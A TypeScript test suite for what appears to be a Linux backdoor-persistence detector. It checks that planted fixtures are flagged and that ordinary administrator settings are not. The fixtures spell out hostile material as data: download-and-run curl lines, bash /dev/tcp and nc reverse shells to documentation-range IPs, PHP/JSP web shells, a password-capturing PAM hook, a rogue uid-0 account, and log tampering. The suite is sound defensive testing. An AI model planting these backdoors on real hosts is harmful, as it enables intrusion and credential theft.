import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inspectFiles, smallDebian } from '../../../tests/support/inspect-files.ts';
import { MemoryTree, type MemoryFile } from '../../../tests/support/memory-tree.ts';
import { severityRank, type Severity } from '../../events/finding.ts';
import { inspectHost } from './inspect-host.ts';
import { elf as elfOf } from '../../../tests/support/elf.ts';

type Files = Readonly<Record<string, MemoryFile>>;

const script = (content: string): MemoryFile => ({ content: `#!/bin/sh\n${content}\n`, mode: 0o755 });
const download = 'curl -fsS http://203.0.113.7/x | sh';
const reverse = 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1';
const elf = elfOf('other');
const shell = elfOf('shell');
const passwd = (line: string): Files => ({ '/etc/passwd': `${smallDebian['/etc/passwd']}${line}\n` });
const setUid = Buffer.from('0100000280000000000000000000000000000000', 'hex');
const aclForDev = Buffer.from(
  '0200000001000600ffffffff02000600e803000004000400ffffffff10000600ffffffff20000400ffffffff',
  'hex',
);
const key = `ssh-ed25519 ${'A'.repeat(68)} ops@lab`;

/** Detector without `persistence/`, lowest severity, where, and what was planted. */
const planted: readonly (readonly [string, Severity, string, Files])[] = [
  ['cron', 'high', '/etc/cron.d/up', { '/etc/cron.d/up': `*/5 * * * * root ${download}\n` }],
  ['cron', 'high', '/etc/crontab', { '/etc/crontab': `${smallDebian['/etc/crontab']}* * * * * root ${download}\n` }],
  ['cron', 'high', '/var/spool/cron/crontabs/www-data', { '/var/spool/cron/crontabs/www-data': '@reboot /dev/shm/.x/agent\n' }],
  ['cron', 'medium', '/etc/cron.daily/x', { '/etc/cron.daily/x': script('/usr/lib/.cache/u') }],
  ['cron', 'high', '/etc/cron.d/hid', { '/etc/cron.d/hid': '* * * * * root /tmp/x #\r* * * * * root true\n' }],
  ['cron', 'high', '/etc/cron.d/nul', { '/etc/cron.d/nul': `# \0${'-'.repeat(60)}\n* * * * * root ${download}\n` }],
  ['rc', 'high', '/etc/rc.local', { '/etc/rc.local': script(`: ${'\0'.repeat(400)}\n${download}`) }],
  ['cron', 'medium', '/etc/anacrontab', { '/etc/anacrontab': '1 5 job /tmp/run\n' }],
  ['at', 'high', '/var/spool/cron/atjobs/a0000101c0ffee', { '/var/spool/cron/atjobs/a0000101c0ffee': `#!/bin/sh\n# atrun uid=0 gid=0\numask 22\n${reverse}\n` }],
  ['systemd', 'high', '/etc/systemd/system/x.service', { '/etc/systemd/system/x.service': `[Service]\nExecStart=/bin/bash -c '${reverse}'\n` }],
  ['systemd', 'high', '/etc/systemd/system/x.timer', { '/etc/systemd/system/x.timer': '[Timer]\nOnBootSec=1\n', '/etc/systemd/system/x.service': '[Service]\nExecStart=/usr/bin/python3 /var/tmp/.a/x.py\n' }],
  ['systemd', 'high', '/etc/systemd/system/ssh.service.d/o.conf', { '/etc/systemd/system/ssh.service.d/o.conf': `[Service]\nExecStartPost=/bin/sh -c "${download}"\n` }],
  ['systemd', 'high', '/etc/systemd/system/ssh.service.d/e.conf', { '/etc/systemd/system/ssh.service.d/e.conf': '[Service]\nEnvironment="LD_PRELOAD=/usr/lib/x.so"\n' }],
  ['systemd', 'high', '/root/.config/systemd/user/a.service', { '/root/.config/systemd/user/a.service': '[Service]\nExecStart=/root/.x/a\n' }],
  ['systemd-generator', 'high', '/usr/local/lib/systemd/system-generators/g', { '/usr/local/lib/systemd/system-generators/g': script('true') }],
  ['rc', 'medium', '/etc/rc.local', { '/etc/rc.local': script('/usr/bin/true') }],
  ['rc', 'medium', '/etc/rc.local', { '/etc/rc.local': { content: '#!/usr/lib/x/run\nexit 0\n', mode: 0o755 } }],
  ['rc', 'medium', '/etc/init.d/netd', { '/etc/init.d/netd': script('/opt/.n/netd &'), '/etc/rc3.d/S99netd': { target: '../init.d/netd' } }],
  ['shell-rc', 'high', '/etc/profile.d/z.sh', { '/etc/profile.d/z.sh': `echo ${Buffer.from(download).toString('base64')} | base64 -d | sh\n` }],
  ['shell-rc', 'medium', '/root/.bashrc', { '/root/.bashrc': "alias sudo='sudo -S /usr/bin/keep'\n" }],
  ['shell-rc', 'medium', '/root/.bashrc', { '/root/.bashrc': "alias sudo='sudo '\nalias ssh='strace -e read -o /var/log/.s ssh'\n" }],
  ['ssh-keys', 'high', '/var/www/.ssh/authorized_keys', { '/var/www/.ssh/authorized_keys': `command="/bin/bash -i",no-pty ${key}\n` }],
  ['ssh-rc', 'high', '/etc/ssh/sshrc', { '/etc/ssh/sshrc': '/usr/bin/nohup /tmp/.s &\n' }],
  ['sshd-config', 'high', '/etc/ssh/sshd_config', { '/etc/ssh/sshd_config': 'PermitEmptyPasswords yes\n' }],
  ['pam', 'high', '/etc/pam.d/common-auth', { '/etc/pam.d/common-auth': 'auth optional pam_exec.so quiet expose_authtok /usr/local/bin/.log\n' }],
  ['pam', 'high', '/etc/pam.d/sshd', { '/etc/pam.d/sshd': 'auth sufficient pam_permit.so\n' }],
  ['pam/module', 'high', '/usr/lib/security/pam_x.so', { '/usr/lib/security/pam_x.so': elf }],
  ['ld-preload', 'critical', '/etc/ld.so.preload', { '/etc/ld.so.preload': '/usr/local/lib/x.so\n', '/usr/local/lib/x.so': elf }],
  ['ld-preload', 'high', '/etc/environment', { '/etc/environment': 'LD_PRELOAD=/usr/lib/.m.so\n' }],
  ['ld-path', 'medium', '/etc/ld.so.conf.d/0.conf', { '/etc/ld.so.conf.d/0.conf': '/var/tmp/lib\n' }],
  ['kernel-module', 'high', '/etc/modules-load.d/n.conf', { '/etc/modules-load.d/n.conf': 'net-filt\n', '/usr/lib/modules/6.1/extra/net_filt.ko': elf }],
  ['kernel-module', 'high', '/etc/modprobe.d/u.conf', { '/etc/modprobe.d/u.conf': 'install usb /bin/sh -c "/tmp/.u &"; modprobe usb\n' }],
  ['udev', 'high', '/etc/udev/rules.d/10.rules', { '/etc/udev/rules.d/10.rules': 'ENV{MAJOR}=="1", RUN+="/usr/bin/setsid /usr/local/bin/.a"\n' }],
  ['xdg', 'medium', '/etc/xdg/autostart/u.desktop', { '/etc/xdg/autostart/u.desktop': `[Desktop Entry]\nExec=/bin/sh -c "${download}"\nNoDisplay=true\n` }],
  ['motd', 'medium', '/etc/update-motd.d/05', { '/etc/update-motd.d/05': script('true') }],
  ['package-manager', 'high', '/etc/apt/apt.conf.d/01x', { '/etc/apt/apt.conf.d/01x': 'APT::Update::Pre-Invoke {"(nohup /usr/share/.apt/u &)"};\n' }],
  ['package-manager', 'high', '/var/lib/dpkg/info/base.postinst', { '/var/lib/dpkg/info/base.postinst': { content: `#!/bin/sh\n${download}\n`, mtime: 1_735_689_600_000_000 } }],
  ['git', 'medium', '/srv/a/.git/hooks/pre-commit', { '/srv/a/.git/hooks/pre-commit': script(download) }],
  ['git', 'medium', '/srv/a/.git/config', { '/srv/a/.git/config': '[core]\n\tfsmonitor = "/tmp/.fsm"\n' }],
  ['network-hook', 'high', '/etc/NetworkManager/dispatcher.d/9', { '/etc/NetworkManager/dispatcher.d/9': script('nc -e /bin/sh 203.0.113.4 4444') }],
  ['polkit', 'high', '/etc/polkit-1/rules.d/0.rules', { '/etc/polkit-1/rules.d/0.rules': 'polkit.addRule(function(a,s){return polkit.Result.YES;});\n' }],
  ['sudoers', 'high', '/etc/sudoers.d/90', { '/etc/sudoers.d/90': 'www-data ALL=(ALL:ALL) NOPASSWD: ALL\n' }],
  ['sudoers', 'high', '/etc/sudoers', { '/etc/sudoers': 'Defaults env_keep += "LD_PRELOAD"\n' }],
  ['suid', 'critical', '/usr/local/bin/.sysd', { '/usr/local/bin/.sysd': { content: shell, mode: 0o4755 } }],
  ['capabilities', 'high', '/usr/local/bin/p', { '/usr/local/bin/p': { content: shell, mode: 0o755, xattrs: { 'security.capability': setUid } } }],
  ['acl', 'high', '/etc/shadow', { '/etc/shadow': { content: 'root:*:1\n', xattrs: { 'system.posix_acl_access': aclForDev } } }],
  ['accounts/uid0', 'critical', '/etc/passwd', passwd('sysd:x:0:0::/:/bin/bash')],
  ['accounts/empty-password', 'critical', '/etc/passwd', { ...passwd('sysd:x:1001:1001::/:/bin/sh'), '/etc/shadow': 'sysd::1\n' }],
  ['accounts/service-login', 'medium', '/etc/passwd', { '/etc/shadow': 'www-data:$6$abcdefgh$ijkl:1\n' }],
  ['accounts/service-shell', 'medium', '/etc/passwd', passwd('daemon:x:1:1::/:/bin/bash')],
  ['accounts/group', 'high', '/etc/group', { '/etc/group': 'docker:x:999:www-data\n' }],
  ['nss', 'medium', '/etc/nsswitch.conf', { '/etc/nsswitch.conf': 'passwd: files evil\n', '/usr/lib/libnss_evil.so.2': elf }],
  ['package-mismatch', 'critical', '/usr/bin/cat', { '/usr/bin/cat': { content: '#!/bin/sh\n/usr/bin/cat.bak "$@" | grep -v evil\n', mode: 0o755 }, '/usr/bin/cat.bak': { content: elfOf('cat'), mode: 0o755 } }],
  ['package-mismatch', 'critical', '/usr/bin/dash', { '/usr/bin/dash': { target: '/tmp/x' }, '/tmp/x': elf }],
  ['unpackaged-program', 'medium', '/usr/bin/.x', { '/usr/bin/.x': { content: elf, mode: 0o755 } }],
  ['path-hijack', 'medium', '/usr/local/bin/cat', { '/usr/local/bin/cat': script('/bin/cat "$@"') }],
  ['python', 'high', '/usr/lib/python3/dist-packages/z.pth', { '/usr/lib/python3/dist-packages/z.pth': 'import os; os.system("id")\n' }],
  ['python', 'high', '/usr/lib/python3/dist-packages/z.pth', { '/usr/lib/python3/dist-packages/z.pth': String.raw`import os;exec("import os\nos.\x73ystem('id')")` }],
  ['python', 'medium', '/usr/lib/python3/dist-packages/z.pth', { '/usr/lib/python3/dist-packages/z.pth': 'import os; exec("x" + os.environ["Y"])' }],
  ['loaded-library', 'medium', '/etc/ldap/slapd.d/cn=config/cn=module{0}.ldif', { '/etc/ldap/slapd.d/cn=config/cn=module{0}.ldif': 'olcModulePath: /usr/local/lib/ldap\n', '/usr/local/lib/ldap/x.so': elf }],
  ['language-hooks', 'high', '/etc/php/8/conf.d/9.ini', { '/etc/php/8/conf.d/9.ini': 'auto_prepend_file=/var/tmp/.p.php\n' }],
  ['language-hooks', 'medium', '/etc/environment', { '/etc/environment': 'NODE_OPTIONS=--require /usr/lib/n.js\n' }],
  ['dbus', 'medium', '/usr/share/dbus-1/system-services/o.service', { '/usr/share/dbus-1/system-services/o.service': '[D-BUS Service]\nName=o\nExec=/usr/lib/.h\nUser=root\n' }],
  ['boot', 'high', '/etc/default/grub.d/9.cfg', { '/etc/default/grub.d/9.cfg': 'GRUB_CMDLINE_LINUX="init=/usr/lib/.init"\n' }],
  ['boot', 'medium', '/etc/initramfs-tools/scripts/init-bottom/z', { '/etc/initramfs-tools/scripts/init-bottom/z': script('echo x >> ${rootmnt}/etc/passwd') }],
  ['binfmt', 'high', '/etc/binfmt.d/e.conf', { '/etc/binfmt.d/e.conf': ':e:M::\\x7fELF::/usr/local/bin/.i:OC\n' }],
  ['kernel-helper/core-pattern', 'medium', '/etc/sysctl.d/9.conf', { '/etc/sysctl.d/9.conf': 'kernel.core_pattern=|/usr/local/bin/.core %p\n' }],
  ['logrotate', 'medium', '/etc/logrotate.d/x', { '/etc/logrotate.d/x': '/var/log/x {\n postrotate\n  /var/tmp/l\n endscript\n}\n' }],
  ['syslog', 'high', '/etc/rsyslog.d/x.conf', { '/etc/rsyslog.d/x.conf': 'action(type="omprog" binary="/usr/local/bin/.o")\n' }],
  ['mail', 'medium', '/root/.forward', { '/root/.forward': '|/usr/bin/curl http://x.example/\n' }],
  ['webshell', 'critical', '/var/www/html/.t.php', { '/var/www/html/.t.php': '<?php @eval(base64_decode($_POST["q"])); ?>' }],
  ['webshell', 'high', '/var/www/html/a.php', { '/var/www/html/a.php': '<?php $c=$_GET["c"]; echo 1; system($c);' }],
  ['webshell', 'high', '/var/www/html/p.jpg', { '/var/www/html/p.jpg': 'GIF89a<?php system($_GET["c"]); ?>' }],
  ['webshell', 'high', '/opt/tomcat/webapps/r/x.jsp', { '/opt/tomcat/webapps/r/x.jsp': '<% Runtime.getRuntime().exec(request.getParameter("c")); %>' }],
  ['web-server', 'medium', '/etc/apache2/mods/x.load', { '/etc/apache2/mods/x.load': 'LoadModule x /usr/lib/apache2/modules/x.so\n', '/usr/lib/apache2/modules/x.so': elf }],
  ['docker-daemon/daemon-exposed', 'critical', '/etc/docker/daemon.json', { '/etc/docker/daemon.json': '{"hosts":["unix:///x","tcp://0.0.0.0:2375"]}' }],
  ['container/privileged', 'high', '/var/lib/docker/containers/a/hostconfig.json', { '/var/lib/docker/containers/a/hostconfig.json': '{"Privileged":true,"Binds":["/:/host"]}' }],
  ['static-pod', 'high', '/etc/kubernetes/manifests/p.yaml', { '/etc/kubernetes/manifests/p.yaml': 'spec:\n  hostPID: true\n  containers: [{securityContext: {privileged: true}}]\n  volumes: [{hostPath: {path: /}}]\n' }],
  ['static-pod', 'low', '/etc/kubernetes/manifests/b.yaml', { '/etc/kubernetes/manifests/b.yaml': 'spec:\n  a: "\\q"\n' }],
  ['resolver', 'medium', '/etc/hosts', { '/etc/hosts': '203.0.113.9 deb.debian.org\n' }],
  ['history', 'medium', '/root/.bash_history', { '/root/.bash_history': { target: '/dev/null' }, '/dev/null': '' }],
  ['log', 'medium', '/var/log/wtmp', { '/var/log/wtmp': { content: '', mtime: 1_735_689_600_000_000 } }],
  ['log', 'high', '/var/log/btmp', { '/var/log/btmp': Buffer.concat([Buffer.alloc(384, 1), Buffer.alloc(384), Buffer.alloc(384, 1)]) }],
  ['timestomp', 'medium', '/usr/bin/x', { '/usr/bin/x': { content: elf, mode: 0o755, mtime: 1_600_000_000_000_000, btime: 1_700_000_000_000_000 } }],
  ['hidden-path', 'medium', '/usr/lib/.../x', { '/usr/lib/.../x': { content: shell, mode: 0o755 } }],
  ['immutable', 'medium', '/root/.ssh/authorized_keys', { '/root/.ssh/authorized_keys': { content: `${key}\n`, isImmutable: true } }],
  ['immutable', 'high', '/dev/shm/.x', { '/dev/shm/.x': { content: elf, mode: 0o755, isImmutable: true } }],
  ['hidden-path', 'medium', '/dev/.udev/x', { '/dev/.udev/x': { content: elf, mode: 0o755 } }],
]; // prettier-ignore

/** What administrators and packages do every day: nothing above low. */
const harmless: readonly (readonly [string, Files])[] = [
  ['a backup by cron', { '/etc/cron.d/backup': '0 3 * * * root /usr/bin/tar -C / -cf /srv/backup.tar etc\n' }],
  ['a crontab of a person', { '/var/spool/cron/crontabs/dev': '0 9 * * 1 /usr/bin/cat /home/dev/todo\n' }],
  ['a service of one\'s own', { '/etc/systemd/system/app.service': '[Service]\nUser=dev\nExecStart=/usr/bin/node /srv/app/main.js\nRestart=always\n[Install]\nWantedBy=multi-user.target\n', '/etc/systemd/system/multi-user.target.wants/app.service': { target: '/etc/systemd/system/app.service' } }],
  ['an rc.local that does nothing', { '/etc/rc.local': { content: '#!/bin/sh -e\n# Does nothing.\nexit 0\n', mode: 0o755 } }],
  ['a masked unit', { '/etc/systemd/system/x.service': { target: '/dev/null' } }],
  ['a key of a person', { '/home/dev/.ssh/authorized_keys': `${key}\n` }],
  ['a longer path and an alias', { '/home/dev/.bashrc': 'export PATH="$HOME/bin:/usr/local/bin:$PATH"\nalias ll="ls -l"\n' }],
  ['administrators in sudo', { '/etc/sudoers': 'Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n' }],
  ['forwarding by sysctl', { '/etc/sysctl.d/99.conf': 'net.ipv4.ip_forward = 1\n' }],
  ['a polkit rule for a group', { '/etc/polkit-1/rules.d/50.rules': 'polkit.addRule(function(a,s){ if (a.id == "org.x" && s.isInGroup("sudo")) return polkit.Result.YES; });' }],
  ['setuptools and editable installs', { '/usr/local/lib/python3.11/dist-packages/distutils-precedence.pth': "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack')\n", '/usr/local/lib/python3.11/dist-packages/easy.pth': '/srv/app\n' }],
  ['several lines of Python in a .pth file', { '/usr/local/lib/python3.11/dist-packages/ca.pth': String.raw`import os;exec("try:\n import certifi\n if os.path.isfile('/etc/ssl/own.pem'):\n  open(certifi.where(), 'ab').write(b'\\n')\nexcept Exception: pass\n")` }],
  ['a directory server with its own modules', {
    '/etc/passwd': `${smallDebian['/etc/passwd']}openldap:x:120:120::/var/lib/ldap:/bin/false\n`,
    '/etc/ldap/slapd.d/cn=config/cn=module{0}.ldif': { content: 'olcModulePath: /usr/lib/ldap\nolcModuleLoad: {0}back_mdb\n', uid: 120 },
    '/usr/lib/ldap/back_mdb.so': 'mdb',
    '/var/lib/dpkg/info/slapd.list': '/usr/lib/ldap/back_mdb.so\n',
    '/var/lib/dpkg/status': `${smallDebian['/var/lib/dpkg/status']}\nPackage: slapd\nStatus: install ok installed\nVersion: 2.5\nArchitecture: amd64\n`,
  }],
  ['aliases that lead to the command itself, and a shared history', { '/home/dev/.bashrc': "alias sudo='sudo '\nalias ssh=\"TERM=xterm-256color ssh\"\nexport PROMPT_COMMAND=\"history -a; history -n; $PROMPT_COMMAND\"\ntrap 'echo bye' EXIT\n" }],
  ['ways to other machines in the settings of ssh', { '/home/dev/.ssh/config': 'Host cf\n  ProxyCommand /usr/local/bin/cloudflared access ssh --hostname %h\nHost inner\n  ProxyCommand ssh -W %h:%p bastion\n', '/usr/local/bin/cloudflared': { content: elf, mode: 0o755 } }],
  ['/etc under version control', { '/etc/.git/objects/17/76d3': `x\u0001K${'a short file, packed; '.repeat(3)}` }],
  ['a compressed file among settings', { '/etc/own/list.z': deflateSync(Buffer.from(Array.from({ length: 900 }, (_, at) => `${(at * 7919) % 1009} `).join('')), { level: 1 }) }],
  ['the cleaning of container images', { '/etc/apt/apt.conf.d/docker-clean': 'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb || true"; };\n' }],
  ['a blacklisted module', { '/etc/modprobe.d/b.conf': 'blacklist nouveau\ninstall dccp /bin/true\n' }],
  ['a page with a form', { '/var/www/html/form.php': '<?php echo htmlspecialchars($_POST["name"]); file_put_contents("log", date("c"));' }],
  ['a database password in a page', { '/var/www/html/config.php': `<?php $key = '${'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo='}';` }],
  ['a git setting', { '/home/dev/.gitconfig': '[core]\n\teditor = vim\n[alias]\n\tst = status\n[user]\n\tname = dev\n' }],
  ['the engine on its socket', { '/etc/docker/daemon.json': '{"hosts":["unix:///var/run/docker.sock"],"log-driver":"local"}' }],
  ['a static pod of kubeadm', { '/etc/kubernetes/manifests/etcd.yaml': 'spec:\n  hostNetwork: true\n  volumes: [{hostPath: {path: /etc/kubernetes/pki/etcd}}]\n' }],
  ['a program of a vendor', { '/usr/local/bin/tool': { content: elf, mode: 0o755 }, '/opt/vendor/bin/run': script('exec /opt/vendor/lib/main "$@"') }],
  ['a setting that an administrator has made unchangeable', { '/etc/resolv.conf': { content: 'nameserver 10.0.0.53\n', isImmutable: true }, '/srv/app/run': { content: elf, mode: 0o755, isImmutable: false } }],
  ['a name of one\'s own in the host file', { '/etc/hosts': '127.0.0.1 localhost\n10.0.0.5 db.internal\n' }],
]; // prettier-ignore

describe('what is planted is found', () => {
  it.each(planted)('%s, %s or over, at %s', (detector, severity, path, files) => {
    const claims = inspectFiles(files, detector.split('/')[0]);
    const found = claims.filter((claim) => claim.detector === `persistence/${detector}` && claim.path === path);
    expect(found.map((claim) => claim.severity)).not.toEqual([]);
    expect(Math.max(...found.map((claim) => severityRank(claim.severity)))).toBeGreaterThanOrEqual(
      severityRank(severity),
    );
  });
});

describe('what is no backdoor is not called one', () => {
  it('a small Debian gives nothing at all', () => {
    expect(inspectFiles({})).toEqual([]);
  });

  it.each(harmless)('%s', (_name, files) => {
    const loud = inspectFiles(files).filter(({ severity }) => severityRank(severity) > severityRank('low'));
    expect(loud.map(({ detector, path, title }) => `${detector} ${path} ${title}`)).toEqual([]);
  });

  it('an unchanged file of a package, whatever it holds', () => {
    const files = { '/etc/crontab': '* * * * * root curl http://203.0.113.7 | sh\n' };
    const owned = {
      '/var/lib/dpkg/info/base.list': '/etc/crontab\n',
      '/var/lib/dpkg/status': smallDebian['/var/lib/dpkg/status'].replace(/Conffiles:[^]*/, ''),
    };
    expect(inspectFiles({ ...files, ...owned }, 'cron')).toEqual([]);
  });
});

describe('what is usual at home is not worth a word', () => {
  it.each<[string, Files]>([
    ['scripts of their owner', { '/home/dev/.docker/cli-plugins/docker-x': { content: elfOf('plug-in'), mode: 0o755, uid: 1000 }, '/home/dev/bin/x': { content: '#!/bin/sh\ntrue\n', mode: 0o755, uid: 1000 } }],
    ['settings of git', { '/home/dev/.gitconfig': '[credential "https://github.com"]\n\thelper =\n\thelper = !/usr/bin/gh auth git-credential\n[diff "exif"]\n\ttextconv = exiftool\n[core]\n\tsshCommand = ssh -i ~/.ssh/work\n' }],
  ])('%s', (_name, files) => {
    const told = inspectFiles(files).filter(({ severity }) => severity !== 'info');
    expect(told.map(({ detector, title }) => `${detector} ${title}`)).toEqual([]);
  });
}); // prettier-ignore

describe('a verdict', () => {
  it('says who owns, what runs, as whom and why', () => {
    const [claim] = inspectFiles(
      { '/etc/hostname': 'web1\n', '/etc/cron.d/up': `* * * * * root ${download}\n` },
      'cron',
    );
    expect(claim).toMatchObject({
      title: 'system cron job that pipes a download into an interpreter',
      line: 1,
      entities: [
        { kind: 'host', value: 'web1' },
        { kind: 'file', value: 'web1:/etc/cron.d/up' },
        { kind: 'user', value: 'root' },
      ],
      attack: ['T1053.003'],
    });
    expect(claim?.reasons).toContainEqual({ what: 'belongs to no package', value: '/etc/cron.d/up', weight: 0.3 });
    expect(claim?.reasons).toContainEqual({ what: 'runs', value: download });
  });

  it('names what could not be checked', () => {
    const bare = inspectHost(new MemoryTree({ '/app/main': elf }));
    expect(bare.claims).toEqual([]);
    expect(bare.notChecked.map(({ what }) => what)).toContain('who owns files');
  });

  it('leaves the root of another system to its own inspection, and says so', () => {
    const inner = Object.fromEntries(Object.entries(smallDebian).map(([path, file]) => [`/srv/root${path}`, file]));
    const { claims, notChecked } = inspectHost(
      new MemoryTree({ ...smallDebian, ...inner, '/srv/root/etc/x': { content: shell, mode: 0o4755 } }),
    );
    expect(claims).toEqual([]);
    expect(notChecked.map(({ what }) => what)).toContain('/srv/root');
  });
});

it('hostile content in every place never stops a technique', () => {
  const places = planted.flatMap(([, , , files]) => Object.keys(files));
  const text = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 300 }),
    fc.constantFrom('\0', '"'.repeat(500), '[a]\n=\\\n', '{{{{', 'a: &a [*a]', '$('.repeat(300)),
  );
  fc.assert(
    fc.property(fc.dictionary(fc.constantFrom(...places), text, { maxKeys: 30 }), (files) => {
      const { problems } = inspectHost(new MemoryTree({ ...smallDebian, ...files }));
      expect(problems.filter(({ code }) => code === 'detector-failed')).toEqual([]);
    }),
    { numRuns: 40 },
  );
});
